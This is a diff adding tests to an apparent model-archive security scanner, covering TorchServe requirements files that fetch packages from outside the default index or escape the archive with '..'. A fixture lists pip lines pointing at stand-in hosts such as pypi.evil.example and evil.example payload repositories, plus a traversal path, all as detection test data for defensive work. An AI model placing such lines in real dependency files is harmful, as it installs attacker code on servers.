@@ -117,3 +117,92 @@ def test_tgz_archive_is_judged_from_its_manifest(tmp_path: Path, prefix: str) ->
     assert severity is IssueSeverity.CRITICAL and "os.system" in message
     quiet = write_tgz(tmp_path / "q.tar.gz", "image_classifier", {"model.pt": b"x"}, prefix)
     assert not _handler_findings(quiet)
+
+
+REQUIREMENTS_RULE = "MA2017"
+#: What pip fetches off the default index, one line of each kind, among pinned packages.
+HOSTILE_REQUIREMENTS = """torch==2.4.0
+--extra-index-url https://pypi.evil.example/simple
+--trusted-host pypi.evil.example
+helper @ https://evil.example/helper-1.0.tar.gz
+git+https://evil.example/payload.git#egg=payload
+-e git+https://evil.example/editable.git#egg=editable
+numpy>=1.26
+"""
+
+
+def _requirement_findings(path: Path) -> list[tuple[IssueSeverity, str]]:
+    return [(i.severity, i.message) for i in scan(path).issues if i.rule == REQUIREMENTS_RULE]
+
+
+def test_requirements_file_fetching_off_the_index_warns(tmp_path: Path) -> None:
+    """`model.requirementsFile` is what TorchServe pip-installs with install_py_dep_per_model:
+    each line that leaves the default index is a WARNING, as in an MLflow model's
+    environment, whatever the file is called."""
+    files: dict[str, bytes | str] = {
+        "model.pt": state_dict_bytes(),
+        "deps/serving.txt": HOSTILE_REQUIREMENTS,
+    }
+    path = write_mar(
+        tmp_path / "net.mar",
+        "image_classifier",
+        files,
+        model_file=None,
+        requirements="deps/serving.txt",
+    )
+    found = _requirement_findings(path)
+    assert {s for s, _ in found} == {IssueSeverity.WARNING}
+    lines = "\n".join(m for _, m in found)
+    for needle in ("--extra-index-url", "--trusted-host", "helper @", "payload.git", "-e git+"):
+        assert needle in lines, lines
+    assert "torch==" not in lines and "numpy" not in lines
+    assert scan(path).metadata["torchserve"]["requirementsFile"] == "deps/serving.txt"
+
+
+def test_requirements_file_of_index_packages_is_quiet(tmp_path: Path) -> None:
+    files: dict[str, bytes | str] = {
+        "model.pt": state_dict_bytes(),
+        "requirements.txt": "torch==2.4.0\ntransformers>=4.40\n",
+    }
+    path = write_mar(
+        tmp_path / "net.mar",
+        "image_classifier",
+        files,
+        model_file=None,
+        requirements="requirements.txt",
+    )
+    assert_clean(scan(path))
+
+
+def test_requirements_file_outside_the_archive_warns(tmp_path: Path) -> None:
+    """TorchServe opens `<model dir>/<requirementsFile>`: a `..` leaves the archive for a file
+    on the server; a leading `/` does not (Java joins the two)."""
+    files: dict[str, bytes | str] = {"model.pt": state_dict_bytes(), "r.txt": "torch\n"}
+    outside = write_mar(
+        tmp_path / "out.mar",
+        "image_classifier",
+        files,
+        model_file=None,
+        requirements="../../tmp/r.txt",
+    )
+    [(severity, message)] = _requirement_findings(outside)
+    assert severity is IssueSeverity.WARNING and "outside the archive" in message
+    rooted = write_mar(
+        tmp_path / "root.mar", "image_classifier", files, model_file=None, requirements="/r.txt"
+    )
+    assert not _requirement_findings(rooted)
+
+
+def test_requirements_file_is_judged_in_tgz_and_folder_archives(tmp_path: Path) -> None:
+    files: dict[str, bytes | str] = {
+        "model.pt": state_dict_bytes(),
+        "requirements.txt": HOSTILE_REQUIREMENTS,
+    }
+    tgz = write_tgz(
+        tmp_path / "net.tar.gz", "image_classifier", files, "net/", requirements="requirements.txt"
+    )
+    assert len(_requirement_findings(tgz)) == 5
+    root = write_folder(
+        tmp_path / "net", "image_classifier", files, requirements="requirements.txt"
+    )
+    assert len(_requirement_findings(root / "MAR-INF" / "MANIFEST.json")) == 5
